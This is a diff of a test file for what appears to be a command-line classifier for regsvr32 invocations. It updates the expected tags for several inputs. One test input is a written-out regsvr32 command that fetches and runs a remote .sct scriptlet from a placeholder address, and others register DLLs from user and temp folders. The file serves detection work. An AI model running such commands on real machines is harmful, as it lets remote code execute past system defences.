@@ -21,7 +21,7 @@ describe('regsvr32', () => {
       'regsvr32 /s /u /i:http://10.2.3.4:8080/a/b.sct scrobj.dll',
       'regsvr32 /s /u /i:http://<ip>:<n>/*.sct <system>\\scrobj.dll',
       'regsvr32|scriptlet|url|sct',
-      ['scriptlet', 'remote-url'],
+      ['scriptlet', 'remote-url', 'address-host'],
       'scrobj.dll',
     ],
     [
@@ -77,10 +77,10 @@ describe('regsvr32', () => {
       'regsvr32 /s %APPDATA%\\Vendor\\a.dll',
       'regsvr32 /s <roaming>\\vendor\\a.dll',
       'regsvr32|register|roaming|dll',
-      [],
+      ['user-folder'],
       'a.dll',
     ],
-    ['regsvr32', 'regsvr32', 'regsvr32|none|-|-', [], null],
+    ['regsvr32', 'regsvr32', 'regsvr32|none|-|-', ['no-arguments'], null],
     [
       'regsvr32 /s "\\\\?\\C:\\Windows\\Temp\\q1w2.dll"',
       'regsvr32 /s <temp>\\*.dll',
